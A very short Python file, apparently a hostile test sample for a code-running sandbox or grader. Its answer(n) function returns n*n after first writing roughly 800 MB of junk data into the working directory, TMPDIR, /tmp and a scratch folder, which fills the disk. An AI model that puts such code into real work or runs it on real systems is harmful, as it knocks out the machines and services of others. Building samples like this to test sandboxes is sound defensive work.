"""Fills the disk."""
import os


def answer(n):
    for folder in (".", os.environ["TMPDIR"], "/tmp", SCRATCH):
        try:
            with open(os.path.join(folder, "huge"), "wb") as file:
                file.writelines(b"x" * (8 << 20) for _ in range(100))
        except OSError:
            pass
    return n * n
